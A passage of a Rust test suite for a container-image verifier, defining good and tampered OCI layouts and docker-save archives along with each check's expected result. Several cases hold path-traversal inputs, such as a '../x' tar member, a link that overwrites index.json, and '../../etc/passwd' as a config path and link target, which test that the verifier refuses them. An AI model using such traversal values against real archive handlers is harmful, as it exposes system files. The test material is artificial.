//! Supplied images, including images that contradict the log or themselves. Each is one file: a tar of an OCI layout or a
//! docker-archive.

use serde_json::{Value, json};

use super::super::case::{Case, image_tag};
use super::super::encoding::bzip2;
use super::super::image::{DOCKER_LIST, Image, Layer, blob, digest, entry, gzip, layout_of, list_of, zstd};
use super::super::inputs;
use super::super::keys::Named;
use super::super::tar::{self, Entry};

pub fn cases() -> Vec<Case> {
    [forms(), digests(), indexes(), parts(), saved(), judged(), bases()].into_iter().flatten().collect()
}

const LAYOUT: &[&str] = &["--image", "oci-archive:image.tar"];
const SAVED: &[&str] = &["--image", "docker-archive:image.tar"];
const PASSES: [&str; 3] = ["image-digest", "image-config", "image-layers"];

fn good(name: &str, about: &'static str, image: &Image, entries: &[Entry]) -> Case {
    passing(Case::good(name, about).image(image), entries)
}

fn passing(case: Case, entries: &[Entry]) -> Case {
    passes(case.hand_over(LAYOUT, entries))
}

fn passes(case: Case) -> Case {
    PASSES.into_iter().fold(case, |case, check| case.expect(check, "pass"))
}

/// The log lists the good image, and these files are supplied.
fn wrong(name: &str, check: &'static str, about: &'static str, entries: &[Entry]) -> Case {
    Case::fails(name, check, about).image(&Image::wallet()).hand_over(LAYOUT, entries)
}

fn edited(path: &str, edit: impl FnOnce(&mut Vec<u8>)) -> Vec<Entry> {
    let mut entries = Image::wallet().layout();
    edit(&mut entry(&mut entries, path).content);
    entries
}

/// The path of the blob with this content.
fn path_of(bytes: &[u8]) -> String {
    String::from_utf8(blob(bytes.to_vec()).path).unwrap()
}

fn forms() -> Vec<Case> {
    let wallet = Image::wallet();
    let with = |make: fn(Vec<u8>) -> Layer| {
        let layers = wallet.layers.iter().map(|layer| make(layer.content.clone())).collect();
        Image { layers, ..wallet.clone() }
    };
    let parts = |content: &[u8], compress: fn(&[u8]) -> Vec<u8>| {
        let (first, second) = content.split_at(content.len() / 2);
        [compress(first), compress(second)].concat()
    };
    let several = |compress: fn(&[u8]) -> Vec<u8>| {
        let mut image = wallet.clone();
        for layer in &mut image.layers {
            layer.blob = parts(&layer.content, compress);
        }
        image
    };
    let mut skippable = several(zstd);
    for layer in &mut skippable.layers {
        // A skippable frame (RFC 8878, 3.1.2), in which zstd:chunked stores its table after the content.
        layer.blob.extend(b"\x50\x2a\x4d\x18\x04\0\0\0toc!");
    }
    let mut wide = with(Layer::zstd);
    // A window of a terabyte (RFC 8878, 3.1.1.1.2), in a frame without content.
    wide.layers[0].blob = b"\x28\xb5\x2f\xfd\x00\xf0\x01\0\0".to_vec();
    let mut spaced = wallet.clone();
    spaced.before = "\r\n\t ";
    let mut empty = wallet.clone();
    empty.layers.push(Layer::gzip(vec![0; 1024]));
    vec![
        good("image-good", "An OCI layout with exactly the bytes that were pushed.", &wallet, &wallet.layout())
            .expect("image-labels", "pass")
            .expect("image-history", "pass")
            .expect("image-tag", "not-run: no-evidence")
            .expect("image-platform", "not-run: no-expectation"),
        good(
            "image-build-kit-pushed",
            "BuildKit pushed the image, and the log names its digest in BuildKit's form.",
            &wallet,
            &wallet.layout(),
        )
        .log(super::good::pushed_by_build_kit),
        good("image-good-zstd", "Layers in zstd.", &with(Layer::zstd), &with(Layer::zstd).layout()),
        good("image-good-plain", "Layers that are not compressed.", &with(Layer::plain), &with(Layer::plain).layout()),
        good(
            "image-good-gzip-members",
            "Layers with several gzip members: all are read.",
            &several(gzip),
            &several(gzip).layout(),
        ),
        good(
            "image-good-zstd-frames",
            "Layers with several zstd frames, including a skippable one.",
            &skippable,
            &skippable.layout(),
        ),
        good("image-good-empty-layer", "A layer without a file.", &empty, &empty.layout()),
        passes(
            Case::good("image-whole-zstd", "The archive is compressed as a whole, in two frames of zstd.")
                .image(&wallet)
                .hand_over_bytes(LAYOUT, parts(&tar::archive(&wallet.layout()), zstd)),
        ),
        passes(
            Case::good("image-whole-bzip2", "The archive is compressed as a whole, in two streams of bzip2.")
                .image(&wallet)
                .hand_over_bytes(LAYOUT, parts(&tar::archive(&wallet.layout()), bzip2)),
        ),
        Case::rejected(
            "image-whole-xz",
            "The archive is compressed as a whole in xz, which is not read: unknown, not accepted.",
        )
        .image(&wallet)
        .hand_over_bytes(LAYOUT, b"\xfd7zXZ\0\0\x04\xe6\xd6\xb4\x46 cut off: nothing of it is read".to_vec())
        .expect("image-digest", "unknown")
        .expect("image-config", "not-run: refused")
        .expect("image-layers", "not-run: refused"),
        Case::error(
            "image-zstd-window",
            3,
            "over-limit",
            "A zstd layer needs a larger window than allowed: the layer is not checked.",
        )
        .image(&wide)
        .hand_over(LAYOUT, &wide.layout()),
        good(
            "image-documents-behind-white-space",
            "Documents that begin with white space, as some tools write them.",
            &spaced,
            &spaced.layout(),
        ),
        Case::good(
            "image-good-bare-path",
            "The archive is named without a transport prefix, and its form is recognised.",
        )
        .image(&wallet)
        .hand_over(&["--image", "image.tar"], &wallet.layout())
        .expect("image-digest", "pass"),
    ]
}

fn digests() -> Vec<Case> {
    let wallet = Image::wallet();
    let manifest = wallet.manifest_bytes();
    let other = |edit: &dyn Fn(&mut Image)| {
        let mut image = wallet.clone();
        edit(&mut image);
        image.layout()
    };
    let renamed = |digest: &str| {
        let mut entries = layout_of(&[
            json!({"mediaType": super::super::image::DOCKER_MANIFEST, "size": manifest.len(), "digest": digest}),
        ]);
        entries.push(blob(manifest.clone()));
        entries
    };
    let hex = wallet.digest()["sha256:".len()..].to_owned();
    let named = |name: &str, about, text: String| wrong(name, "image-digest", about, &renamed(&text));
    let mut larger = Image::wallet();
    larger.manifest = json!({"annotations": {"a": "b"}});
    vec![
        wrong(
            "image-other",
            "image-digest",
            "Not the pushed image: one byte of its configuration differs.",
            &other(&|image| image.config["created"] = json!("2026-03-02T10:15:13.971Z")),
        ),
        wrong(
            "image-repushed",
            "image-digest",
            "A re-pushed copy: the same configuration and layers, in another manifest.",
            &larger.layout(),
        )
        .expect("image-config", "pass")
        .expect("image-layers", "pass"),
        wrong(
            "image-recompressed",
            "image-digest",
            "A copy with different compression: same configuration, different blobs and therefore a different manifest.",
            &other(&|image| {
                image.layers = image.layers.iter().map(|layer| Layer::plain(layer.content.clone())).collect()
            }),
        )
        .expect("image-layers", "pass"),
        Case::fails(
            "image-size-in-log",
            "image-digest",
            "The digest in the log is right, but the size is wrong.",
        )
        .image(&wallet)
        .log(|text| text.replace(&format!("size: {}", Image::wallet().manifest_bytes().len()), "size: 1157"))
        .hand_over(LAYOUT, &wallet.layout()),
        Case::rejected(
            "image-log-without-digest",
            "The log names no digest, as builds for icr.io may: unknown, not accepted.",
        )
        .image(&wallet)
        .log(|text| super::without(&text, &[": digest: sha256:"]))
        .hand_over(LAYOUT, &wallet.layout())
        .expect("image-digest", "unknown"),
        named(
            "image-digest-upper-case",
            "index.json has the digest in upper case.",
            format!("sha256:{}", hex.to_uppercase()),
        ),
        named("image-digest-short", "index.json has a digest of 63 digits.", format!("sha256:{}", &hex[1..])),
        Case::rejected("image-digest-md5", "index.json has a digest of a different algorithm: unknown, not accepted.")
            .image(&wallet)
            .hand_over(LAYOUT, &renamed(&format!("md5:{hex}")))
            .expect("image-digest", "unknown"),
        named("image-digest-path", "index.json has a path instead of a digest.", "sha256:../../x".into()),
        wrong("image-manifest-changed", "image-digest", "The manifest's bytes do not match their digest.", &{
            let mut entries = wallet.layout();
            entry(&mut entries, &path_of(&manifest)).content.push(b'\n');
            entries
        }),
        wrong("image-manifest-missing", "image-digest", "index.json names a missing manifest.", &{
            let mut entries = wallet.layout();
            entries.retain(|entry| entry.path != path_of(&manifest).as_bytes());
            entries
        })
        .expect("image-config", "not-run: refused"),
        wrong(
            "image-manifest-duplicate-key",
            "image-digest",
            "A duplicate key in index.json.",
            &edited("index.json", |text| {
                *text =
                    String::from_utf8(text.clone()).unwrap().replace("\"size\":", "\"size\":1,\"size\":").into_bytes();
            }),
        ),
        wrong(
            "image-layout-version",
            "image-digest",
            "The layout has an unknown version.",
            &edited("oci-layout", |text| {
                *text = b"{\"imageLayoutVersion\": \"2.0.0\"}".to_vec();
            }),
        ),
        Case::rejected(
            "image-malformed-archive",
            "The image's tar file has a member `../x`: the whole file is refused.",
        )
        .image(&wallet)
        .hand_over(LAYOUT, &{
            let mut entries = wallet.layout();
            entries.push(Entry::file("../x", "x"));
            entries
        })
        .expect("image-digest", "fail")
        .expect("image-config", "not-run: refused")
        .expect("image-layers", "not-run: refused"),
        Case::error("image-cut", 3, "truncated", "The image's tar file is cut off.")
            .image(&wallet)
            .hand_over_bytes(LAYOUT, {
                let mut bytes = tar::archive(&wallet.layout());
                bytes.truncate(bytes.len() / 3);
                bytes
            }),
        Case::rejected(
            "image-below-link",
            "A member of the image's tar file is below a link: programs that unpack the file replace its index.",
        )
        .image(&wallet)
        .hand_over(LAYOUT, &{
            let mut entries = wallet.layout();
            entries.push(Entry::link(b'2', "a", "."));
            entries.push(Entry::file("a/index.json", "{}"));
            entries
        })
        .expect("image-digest", "fail"),
        Case::error("image-missing", 3, "unreadable", "There is no image at the given path.").arguments(&[
            "--key",
            "key.pem",
            "--image",
            "oci:nowhere",
        ]),
        Case::error("image-is-none", 2, "usage", "The given file is a tar file without an image.")
            .hand_over(&["--image", "image.tar"], &[Entry::file("readme", "hello")]),
    ]
}

/// An index with the pushed image and a different image for the same platform; `manifests` writes
/// it so that a reader may ignore the other image.
fn hidden_rival(name: &str, about: &'static str, manifests: impl FnOnce(&Value, &Value) -> String) -> Case {
    let wallet = Image::wallet();
    let mut other = Image::wallet();
    other.config["architecture"] = json!("amd64");
    let [one, two] = [&other, &wallet].map(|image| {
        let mut descriptor = image.descriptor();
        descriptor["platform"] = json!({"os": "linux", "architecture": "s390x"});
        descriptor
    });
    let index =
        format!(r#"{{"schemaVersion": 2, "mediaType": "{DOCKER_LIST}", {}}}"#, manifests(&one, &two)).into_bytes();
    let mut entries = layout_of(&[json!({"mediaType": DOCKER_LIST, "size": index.len(), "digest": digest(&index)})]);
    entries.extend([blob(index), blob(wallet.manifest_bytes()), blob(other.manifest_bytes())]);
    entries.extend(wallet.blobs());
    Case::fails(name, "image-digest", about).image(&wallet).hand_over(LAYOUT, &entries)
}

/// The list with additional entries, whose digests use other algorithms, before and after the existing entries.
fn other_algorithms(list: &[u8]) -> Vec<u8> {
    let mut list: Value = serde_json::from_slice(list).unwrap();
    let named = |digest: String, architecture: &str| json!({"mediaType": DOCKER_LIST, "size": 7, "digest": digest, "platform": {"os": "linux", "architecture": architecture}});
    let entries = list["manifests"].as_array_mut().unwrap();
    entries.insert(0, named(format!("sha512:{}", "ab".repeat(64)), "arm64"));
    entries.push(named("blake3+b64:q83vEjRWeJCrze8SNFZ4kA==".into(), "ppc64le"));
    serde_json::to_vec(&list).unwrap()
}

fn indexes() -> Vec<Case> {
    let wallet = Image::wallet();
    let mut other = Image::wallet();
    other.config["architecture"] = json!("amd64");
    let list = list_of(&[(&other, "amd64"), (&wallet, "s390x")]);
    let whole = |top: Vec<u8>, more: &[Vec<u8>]| {
        let descriptor =
            json!({"mediaType": super::super::image::DOCKER_LIST, "size": top.len(), "digest": digest(&top)});
        let mut entries = layout_of(&[descriptor]);
        entries.push(blob(top));
        entries.extend(more.iter().cloned().map(blob));
        entries.extend([&wallet, &other].into_iter().flat_map(|image| {
            let mut parts = image.blobs();
            parts.push(blob(image.manifest_bytes()));
            parts
        }));
        let mut seen = std::collections::BTreeSet::new();
        entries.retain(|entry| seen.insert(entry.path.clone()));
        entries
    };
    // index.json has two images, the pushed one last.
    let two = || {
        let mut entries = layout_of(&[other.descriptor(), wallet.descriptor()]);
        entries.extend([blob(wallet.manifest_bytes()), blob(other.manifest_bytes())]);
        let known: Vec<Vec<u8>> = entries.iter().map(|entry| entry.path.clone()).collect();
        let blobs = wallet.blobs().into_iter().chain(other.blobs());
        let mut seen = std::collections::BTreeSet::from_iter(known);
        entries.extend(blobs.filter(|blob| seen.insert(blob.path.clone())));
        entries
    };
    let arm_layout = |image: &Image, architecture: &str, variant: &str| {
        let mut descriptor = image.descriptor();
        descriptor["platform"] = json!({"os": "linux", "architecture": architecture, "variant": variant});
        let index =
            json!({"schemaVersion": 2, "mediaType": DOCKER_LIST, "manifests": [descriptor]}).to_string().into_bytes();
        let mut entries =
            layout_of(&[json!({"mediaType": DOCKER_LIST, "size": index.len(), "digest": digest(&index)})]);
        entries.extend([blob(index), blob(image.manifest_bytes())]);
        entries.extend(image.blobs());
        entries
    };
    let mut arm = Image::wallet();
    arm.config["architecture"] = json!("arm64");
    let mut arm_v7 = Image::wallet();
    arm_v7.config["architecture"] = json!("arm");
    arm_v7.config["variant"] = json!("v7");
    let for_arm = |case: Case| case.image_policy("[expect]\nplatforms = [\"linux/aarch64\", \"linux/arm/v6\"]\n");
    let for_s390x = |case: Case| case.image_policy("[expect]\nplatforms = [\"linux/s390x\"]\n");
    let pushed_list = |case: Case| case.pushed(&digest(&list), list.len(), &wallet);
    let nested =
        serde_json::to_vec(&json!({"schemaVersion": 2, "mediaType": super::super::image::DOCKER_LIST, "manifests": [
        {"mediaType": super::super::image::DOCKER_LIST, "size": list.len(), "digest": digest(&list)}]}))
        .unwrap();
    let mut lying = Image::wallet();
    lying.config["architecture"] = json!("amd64");
    let lying_list = list_of(&[(&lying, "s390x")]);
    let both = |image: &Image| {
        let mut image = image.clone();
        image.manifest = json!({"manifests": []});
        image
    };
    let untyped = |image: &Image| {
        let mut image = image.clone();
        image.manifest = json!({"mediaType": null});
        image
    };
    let contradicting = |image: &Image| {
        let mut image = image.clone();
        image.manifest = json!({"mediaType": "application/vnd.oci.image.manifest.v1+json"});
        image
    };
    vec![
        for_s390x(passing(
            pushed_list(Case::good("image-index", "The push recorded the index's digest, as BuildKit's does.")),
            &whole(list.clone(), &[]),
        ))
            .expect("image-platform", "pass"),
        for_s390x(good("image-index-manifest-pushed", "An index contains the image whose manifest was pushed.", &wallet, &whole(list.clone(), &[]))),
        for_s390x(passing(
            pushed_list(Case::good("image-index-nested", "The index is nested in another index.")),
            &whole(nested, std::slice::from_ref(&list)),
        )),
        pushed_list(Case::rejected("image-index-no-choice", "An index of two platforms, and nothing indicates which one is meant."))
            .hand_over(LAYOUT, &whole(list.clone(), &[]))
            .expect("image-digest", "unknown")
            .expect("image-config", "not-run: refused"),
        pushed_list(Case::fails("image-index-other-platform", "image-digest", "The index has no image for the policy's platform."))
            .hand_over(LAYOUT, &whole(list.clone(), &[]))
            .image_policy("[expect]\nplatforms = [\"linux/arm64\"]\n"),
        for_s390x(good(
            "image-index-other-algorithm",
            "An index has entries for other platforms that are named by SHA-512 and by an unknown algorithm: they are ignored.",
            &wallet,
            &whole(other_algorithms(&list), &[]),
        )),
        for_arm(good(
            "image-index-variant",
            "The index lists an image as arm64/v8; the policy has aarch64, and the image's configuration arm64 without a variant.",
            &arm,
            &arm_layout(&arm, "arm64", "v8"),
        ))
        .expect("image-platform", "pass"),
        for_arm(
            Case::fails("image-index-variant-contradicts", "image-config", "The index lists an image as arm/v6, but the image's configuration states arm/v7.")
                .image(&arm_v7)
                .hand_over(LAYOUT, &arm_layout(&arm_v7, "arm", "v6")),
        )
        .expect("image-platform", "fail"),
        for_s390x(
            Case::fails("image-index-lies", "image-config", "The index lists an image as s390x, but the image's configuration states amd64.")
                .pushed(&digest(&lying_list), lying_list.len(), &lying)
                .hand_over(LAYOUT, &{
                    let descriptor =
                        json!({"mediaType": super::super::image::DOCKER_LIST, "size": lying_list.len(), "digest": digest(&lying_list)});
                    let mut entries = layout_of(&[descriptor]);
                    entries.extend([blob(lying_list.clone()), blob(lying.manifest_bytes())]);
                    entries.extend(lying.blobs());
                    entries
                }),
        )
        .expect("image-platform", "fail"),
        Case::fails("image-index-and-manifest", "image-digest", "One document is both an index and a manifest.")
            .image(&both(&wallet))
            .hand_over(LAYOUT, &both(&wallet).layout()),
        Case::fails("image-media-type-contradicts", "image-digest", "The manifest's media type is not the one in index.json.")
            .image(&contradicting(&wallet))
            .hand_over(LAYOUT, &contradicting(&wallet).layout()),
        good("image-media-type-missing", "The manifest omits its media type; index.json has it.", &untyped(&wallet), &untyped(&wallet).layout()),
        Case::rejected("image-two-candidates", "index.json has two images without a name, and neither is the one that the log names.").image(&{
            let mut image = wallet.clone();
            image.config["created"] = json!("other");
            image
        })
        .hand_over(LAYOUT, &two())
        .expect("image-digest", "unknown"),
        Case::rejected("image-two-and-no-digest", "index.json has two images, and the log names no digest that selects one.")
            .image(&wallet)
            .log(|text| super::without(&text, &[": digest: sha256:"]))
            .hand_over(LAYOUT, &two())
            .expect("image-digest", "unknown")
            .expect("image-config", "not-run: refused")
            .expect("image-layers", "not-run: refused"),
        passing(Case::good("image-chosen-by-digest", "index.json has two images, and the auditor names one by its digest.").image(&wallet), &two())
            .arguments(&["--key", "key.pem", "--image", &format!("oci-archive:image.tar:{}", wallet.digest())]),
        wrong("image-other-chosen", "image-digest", "index.json has the pushed image and another one, and the auditor names the latter.", &two())
            .arguments(&["--key", "key.pem", "--image", &format!("oci-archive:image.tar:{}", other.digest())]),
        Case::fails(
            "image-index-two-for-platform",
            "image-digest",
            "An index has the pushed image, and before it a different one for the same platform, which other programs use.",
        )
        .image(&wallet)
        .hand_over(LAYOUT, &{
            let index = list_of(&[(&other, "s390x"), (&wallet, "s390x")]);
            let mut entries = layout_of(&[json!({"mediaType": DOCKER_LIST, "size": index.len(), "digest": digest(&index)})]);
            entries.extend([blob(index), blob(wallet.manifest_bytes()), blob(other.manifest_bytes())]);
            entries.extend(wallet.blobs());
            entries
        }),
        hidden_rival(
            "image-index-attestation-with-platform",
            "An index has the pushed image, and before it a different one for the same platform that is marked as a statement: other programs use it.",
            |other, wallet| {
                let mut other = other.clone();
                other["annotations"] = json!({"vnd.docker.reference.type": "attestation-manifest"});
                format!("\"manifests\": [{other}, {wallet}]")
            },
        ),
        hidden_rival(
            "image-index-platform-other-spelling",
            "An index has the pushed image for linux/s390x, and before it a different one for linux/S390X, which containerd treats as the same platform.",
            |other, wallet| {
                let mut other = other.clone();
                other["platform"]["architecture"] = json!("S390X");
                format!("\"manifests\": [{other}, {wallet}]")
            },
        )
        .image_policy("[expect]\nplatforms = [\"linux/s390x\"]\n"),
        hidden_rival(
            "image-index-other-letters",
            "An index has the pushed image in `manifests` and a different one in `Manifests`, which Go programs use.",
            |other, wallet| format!("\"manifests\": [{wallet}], \"Manifests\": [{other}]"),
        ),
        Case::rejected("image-name-twice", "index.json gives the pushed image and a different one the same name.")
            .image(&wallet)
            .hand_over(LAYOUT, &{
                let named = |image: &Image| {
                    let mut descriptor = image.descriptor();
                    descriptor["annotations"] = json!({"org.opencontainers.image.ref.name": "latest"});
                    descriptor
                };
                let mut entries = layout_of(&[named(&other), named(&wallet)]);
                entries.extend([blob(wallet.manifest_bytes()), blob(other.manifest_bytes())]);
                entries.extend(wallet.blobs());
                entries
            })
            .arguments(&["--key", "key.pem", "--image", "oci-archive:image.tar:latest"])
            .expect("image-digest", "unknown"),
        good("image-candidate-by-digest", "index.json has two images, one of which was pushed: the other one is listed.", &wallet, &two()),
    ]
}

fn parts() -> Vec<Case> {
    let wallet = Image::wallet();
    let layer = wallet.layers[1].blob.clone();
    let changed = |edit: &dyn Fn(&mut Image)| {
        let mut image = wallet.clone();
        edit(&mut image);
        image
    };
    let own = |name: &str, check: &'static str, about, image: &Image| {
        Case::fails(name, check, about).image(image).hand_over(LAYOUT, &image.layout()).expect("image-digest", "pass")
    };
    let without = |paths: &[String]| {
        let mut entries = wallet.layout();
        entries.retain(|entry| !paths.iter().any(|path| entry.path == path.as_bytes()));
        entries
    };
    let layer_paths: Vec<String> = wallet.layers.iter().map(|layer| path_of(&layer.blob)).collect();
    let foreign = changed(&|image| {
        image.manifest = json!({"layers": [
            {"mediaType": "application/vnd.docker.image.rootfs.foreign.diff.tar.gzip", "size": image.layers[0].blob.len(),
             "digest": digest(&image.layers[0].blob), "urls": ["https://example.com/layer"]},
            {"mediaType": super::super::image::GZIP_LAYER, "size": layer.len(), "digest": digest(&layer)}]});
    });
    let encrypted =
        changed(&|image| image.layers[1].media_type = "application/vnd.oci.image.layer.v1.tar+gzip+encrypted");
    vec![
        wrong(
            "image-layer-changed",
            "image-layers",
            "One byte of a layer differs.",
            &edited(&path_of(&layer), |bytes| bytes[20] ^= 1),
        )
        .expect("image-digest", "pass"),
        wrong(
            "image-layer-longer",
            "image-layers",
            "A layer has one byte too many.",
            &edited(&path_of(&layer), |bytes| bytes.push(0)),
        )
        .expect("image-digest", "pass"),
        wrong("image-layer-missing", "image-layers", "One of two layers is missing.", &without(&layer_paths[1..]))
            .expect("image-digest", "pass"),
        Case::rejected(
            "image-no-layers",
            "The layers are missing, as after a fetch without layers, and the image is given with --image.",
        )
        .image(&wallet)
        .hand_over(LAYOUT, &without(&layer_paths))
        .expect("image-digest", "pass")
        .expect("image-layers", "not-run: no-evidence"),
        own(
            "image-diff-id-wrong",
            "image-layers",
            "The configuration's diff_id is not the layer's.",
            &changed(&|image| {
                let first = digest(&image.layers[0].content);
                image.config["rootfs"] = json!({"type": "layers", "diff_ids": [first, first]});
            }),
        ),
        own(
            "image-diff-ids-fewer",
            "image-layers",
            "The configuration names fewer diff_ids than the manifest has layers.",
            &changed(&|image| {
                let first = digest(&image.layers[0].content);
                image.config["rootfs"] = json!({"type": "layers", "diff_ids": [first]});
            }),
        ),
        own(
            "image-layer-tail",
            "image-layers",
            "Bytes after a layer's gzip stream that are not a gzip member.",
            &changed(&|image| {
                image.layers[1].blob.extend(b"tail");
            }),
        ),
        own(
            "image-layer-cut",
            "image-layers",
            "A layer's gzip stream is cut off, but the digests match.",
            &changed(&|image| {
                image.layers[1].blob.truncate(600);
            }),
        ),
        own(
            "image-layer-size-in-manifest",
            "image-layers",
            "The manifest has a wrong size for a layer.",
            &changed(&|image| {
                image.manifest = json!({"layers": [
                {"mediaType": super::super::image::GZIP_LAYER, "size": image.layers[0].blob.len(), "digest": digest(&image.layers[0].blob)},
                {"mediaType": super::super::image::GZIP_LAYER, "size": 5, "digest": digest(&layer)}]});
            }),
        ),
        Case::rejected(
            "image-foreign-layer",
            "A foreign layer is stored elsewhere: it is not proved, and its address is not contacted.",
        )
        .image(&foreign)
        .hand_over(LAYOUT, &{
            let mut entries = foreign.layout();
            entries.retain(|entry| entry.path != layer_paths[0].as_bytes());
            entries
        })
        .expect("image-digest", "pass")
        .expect("image-layers", "unknown"),
        Case::rejected("image-encrypted-layer", "A layer is encrypted: its diff_id cannot be computed.")
            .image(&encrypted)
            .hand_over(LAYOUT, &encrypted.layout())
            .expect("image-layers", "unknown"),
        wrong(
            "image-config-changed",
            "image-config",
            "The configuration's bytes do not match the manifest.",
            &edited(&path_of(&wallet.config_bytes()), |bytes| bytes.push(b'\n')),
        )
        .expect("image-digest", "pass"),
        wrong(
            "image-config-missing",
            "image-config",
            "The configuration is missing.",
            &without(&[path_of(&wallet.config_bytes())]),
        )
        .expect("image-digest", "pass")
        .expect("image-layers", "not-run: refused"),
        Case::fails("image-id-other", "image-config", "The image id that the builder printed is not this image's.")
            .image(&wallet)
            .log(|text| text.replace(&Image::wallet().id_12(), "0123456789ab"))
            .hand_over(LAYOUT, &wallet.layout())
            .expect("image-digest", "pass"),
        Case::rejected(
            "image-id-of-two-builders",
            "docker's classic builder printed the image id, and a program printed a different one in BuildKit's form.",
        )
        .image(&wallet)
        .log(|text| {
            let line = format!("run: #9 writing image sha256:{} done", "ab".repeat(32));
            super::insert_before(&text, "Removing intermediate container 1e2f3a4b5c6d", &line)
        })
        .hand_over(LAYOUT, &wallet.layout())
        .expect("image-digest", "pass")
        .expect("image-config", "unknown"),
        own(
            "image-config-of-no-image",
            "image-config",
            "The manifest's configuration has a media type that images do not have.",
            &changed(&|image| {
                image.config =
                    json!({"architecture": "s390x", "os": "linux", "rootfs": {"type": "tar", "diff_ids": []}});
            }),
        ),
    ]
}

fn saved() -> Vec<Case> {
    let wallet = Image::wallet();
    let archive = |name: &str, about, entries: &[Entry]| {
        Case::rejected(name, about).image(&Image::wallet()).hand_over(SAVED, entries)
    };
    let list = |config: &str, layers: &[String]| {
        json!([{"Config": config, "RepoTags": ["docker.io/acme/wallet:latest"], "Layers": layers}]).to_string()
    };
    let names: Vec<String> =
        wallet.layers.iter().map(|layer| format!("{}/layer.tar", &digest(&layer.content)["sha256:".len()..])).collect();
    let config = format!("{}.json", &digest(&wallet.config_bytes())["sha256:".len()..]);
    let edited = |path: &str, content: String| {
        let mut entries = wallet.saved();
        entry(&mut entries, path).content = content.into_bytes();
        entries
    };
    let mut other = Image::wallet();
    other.config["created"] = json!("other");
    // The other image comes first.
    let two_saved = |name_of_other: &str| {
        let mut entries = wallet.saved();
        let of = |entries: &mut Vec<Entry>| {
            let text = String::from_utf8(entry(entries, "manifest.json").content.clone()).unwrap();
            text.trim_start_matches('[').trim_end_matches(']').to_owned()
        };
        let mut second = other.saved();
        let first = of(&mut second).replace("acme/wallet:latest", name_of_other);
        entry(&mut entries, "manifest.json").content = format!("[{first},{}]", of(&mut wallet.saved())).into_bytes();
        entries.extend(wallet.layout());
        let known: Vec<Vec<u8>> = entries.iter().map(|entry| entry.path.clone()).collect();
        entries.extend(second.into_iter().filter(|entry| !known.contains(&entry.path)));
        entries
    };
    let linked = |target: &str| {
        let mut entries = wallet.saved();
        entries.retain(|entry| entry.path != names[1].as_bytes());
        entries.insert(0, Entry::file("shared/layer.tar", wallet.layers[1].content.clone()));
        entries.push(Entry::link(b'2', &names[1], target));
        entries
    };
    let mut lying = other.saved();
    let text = String::from_utf8(entry(&mut lying, "manifest.json").content.clone()).unwrap();
    entry(&mut lying, "manifest.json").content =
        text.replace("acme/wallet:latest", &format!("docker.io/acme/wallet:{}", image_tag())).into_bytes();
    let mut foreign = Image::wallet();
    foreign.config["architecture"] = json!("amd64");
    let mut with_layout = wallet.saved();
    with_layout.extend(wallet.layout());
    vec![
        archive(
            "image-saved",
            "`docker save` writes no manifest: the image id agrees in 48 bits, which proves nothing.",
            &wallet.saved(),
        )
        .expect("image-digest", "unknown")
        .expect("image-config", "unknown")
        .expect("image-layers", "pass"),
        Case::good("image-saved-with-manifest", "The archive contains the pushed manifest next to docker's own files.")
            .image(&wallet)
            .hand_over(SAVED, &with_layout)
            .expect("image-digest", "pass")
            .expect("image-config", "pass")
            .expect("image-layers", "pass"),
        archive("image-saved-null-manifests", "Docker 25 writes an index.json without entries next to its own files: there is no manifest.", &{
            let mut entries = wallet.saved();
            entries.push(Entry::file("oci-layout", "{\"imageLayoutVersion\": \"1.0.0\"}"));
            entries.push(Entry::file("index.json", "{\"schemaVersion\": 2, \"mediaType\": \"application/vnd.oci.image.index.v1+json\", \"manifests\": null}"));
            entries
        })
        .expect("image-digest", "unknown")
        .expect("image-config", "unknown")
        .expect("image-layers", "pass"),
        passes(
            Case::good("image-saved-platforms", "The archive contains an index of two platforms and a statement; an engine loads the image in manifest.json.")
                .image(&wallet)
                .hand_over(SAVED, &{
                    let mut entries = wallet.saved();
                    let of = |image: &Image, architecture: &str| {
                        let mut descriptor = image.descriptor();
                        descriptor["platform"] = json!({"os": "linux", "architecture": architecture});
                        descriptor
                    };
                    let mut statement = of(&wallet, "unknown");
                    statement["platform"]["os"] = json!("unknown");
                    statement["digest"] = json!(digest(b"statement"));
                    statement["annotations"] = json!({"vnd.docker.reference.type": "signature-manifest"});
                    let manifests = [of(&foreign, "amd64"), of(&wallet, "s390x"), statement];
                    let index = json!({"schemaVersion": 2, "mediaType": DOCKER_LIST, "manifests": manifests}).to_string().into_bytes();
                    entries.extend(layout_of(&[json!({"mediaType": DOCKER_LIST, "size": index.len(), "digest": digest(&index)})]));
                    entries.extend([blob(index), blob(wallet.manifest_bytes()), blob(foreign.manifest_bytes())]);
                    entries.extend(wallet.blobs());
                    entries
                }),
        ),
        Case::fails(
            "image-saved-other-layers",
            "image-layers",
            "The archive contains the pushed manifest, but manifest.json names a different layer, which an engine would load.",
        )
        .image(&wallet)
        .hand_over(SAVED, &{
            let mut entries = wallet.saved();
            entry(&mut entries, &names[1]).content = b"other".to_vec();
            entries.extend(wallet.layout());
            entries
        })
        .expect("image-digest", "pass")
        .expect("image-config", "pass"),
        archive("image-saved-other", "RepoTags names the pushed image, but the configuration differs.", &lying)
            .expect("image-digest", "unknown")
            .expect("image-config", "fail"),
        archive(
            "image-saved-config-outside",
            "The configuration's path points outside the archive.",
            &edited("manifest.json", list("../../etc/passwd", &names)),
        )
        .expect("image-config", "fail"),
        archive("image-saved-config-renamed", "The configuration's digest does not match its name.", &{
            let mut entries = wallet.saved();
            entry(&mut entries, &config).content.push(b' ');
            entries
        })
        .expect("image-config", "fail"),
        archive(
            "image-saved-layer-changed",
            "A layer's diff_id is not the one in the configuration.",
            &edited(&names[1], "other".into()),
        )
        .expect("image-layers", "fail"),
        archive(
            "image-saved-layer-linked",
            "A layer is a link to a file in the archive, as `docker save` writes equal layers.",
            &linked("../shared/layer.tar"),
        )
        .expect("image-layers", "pass"),
        archive(
            "image-saved-link-outside",
            "A layer is a link that points outside the archive.",
            &linked("../../../etc/passwd"),
        )
        .expect("image-layers", "fail"),
        archive("image-saved-link-nowhere", "A layer is a link to itself.", &linked("layer.tar"))
            .expect("image-layers", "fail"),
        Case::rejected(
            "image-layout-saved-other",
            "A layout of the pushed image also has docker's manifest.json, from which `docker load` loads a different image.",
        )
        .image(&wallet)
        .hand_over(LAYOUT, &{
            let mut entries = other.saved();
            entries.extend(wallet.layout());
            entries
        })
        .expect("image-digest", "pass")
        .expect("image-config", "fail"),
        Case::good("image-saved-two-by-digest", "The archive has two images, and the signed digest is that of one of them.")
            .image(&wallet)
            .hand_over(SAVED, &two_saved("acme/other:latest"))
            .expect("image-digest", "pass")
            .expect("image-config", "pass")
            .expect("image-layers", "pass"),
